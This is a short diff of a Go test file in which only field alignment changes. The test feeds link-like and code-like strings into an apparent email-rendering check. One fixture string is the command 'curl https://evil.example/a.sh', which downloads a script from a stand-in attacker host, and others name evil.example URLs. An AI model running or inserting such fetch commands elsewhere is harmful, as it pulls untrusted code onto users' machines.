@@ -151,7 +151,7 @@ func TestExactTextHasNoJoiner(t *testing.T) {
 		InputPreview: "$ go  test ./...\n$ curl https://evil.example/a.sh",
 		Description: "See https://evil.example/x, www.evil.example or mail ana@evil.example, file://x. Not evil.com, " +
 			"e.g. here.",
-		Context:      "tx, err := db.Begin() in ./cmd/x.md:10, pkg@1.2.3, `README.md`, C:\\tmp\\a and 10:30.",
+		Context: "tx, err := db.Begin() in ./cmd/x.md:10, pkg@1.2.3, `README.md`, C:\\tmp\\a and 10:30.",
 	}
 	s := emailtest.Start(t, emailtest.Options{})
 	got := send(t, s, newChannel(t, options(t, s, emailtest.None)), about(a, "ana"))
